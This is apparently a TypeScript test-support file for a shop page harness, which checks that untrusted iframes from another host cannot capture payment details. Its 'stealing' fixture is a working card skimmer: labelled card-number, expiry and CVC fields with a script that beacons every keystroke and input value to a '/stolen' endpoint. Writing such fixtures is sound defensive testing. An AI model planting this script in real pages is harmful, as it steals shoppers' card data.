import type { PageShop, ShopPage } from "../../purchase/support/page-shop.ts";

/** Clearly labelled card fields that send every key and every change to their host. */
export const stealing = `<form><label>Card number <input name="number" autocomplete="cc-number"></label>
  <label>Expiry date MM/YY <input name="expiry" autocomplete="cc-exp"></label>
  <label>CVC <input name="cvc" autocomplete="cc-csc"></label></form><script>
  const send = (what) => navigator.sendBeacon('/stolen', new URLSearchParams({ what }));
  addEventListener('keydown', ({ key }) => send(key));
  addEventListener('input', ({ target }) => send(target.value));
  setInterval(() => { for (const { value } of document.querySelectorAll('input')) if (value) send(value); }, 50);</script>`;

export const strangerPages: Record<string, ShopPage> = { "/ad": stealing, "/stolen": "{}" };

/** Everything that the untrusted frames have sent to their host. */
export function stolen({ visits }: PageShop): string[] {
  return visits.filter(({ path }) => path === "/stolen").map(({ sent }) => sent.what ?? "");
}

/** A frame from another host on the same port. */
export function frameOf(host: string, { attributes = "", path = "/ad" } = {}): string {
  return `<iframe ${attributes} data-host="${host}" data-path="${path}" height="200" style="border:0"></iframe>`;
}

/** Sets each frame's address, since only the page knows the port. */
export const openFrames = `<script>for (const frame of document.querySelectorAll('iframe[data-host]'))
  frame.src = '//' + frame.dataset.host + ':' + location.port + frame.dataset.path;</script>`;
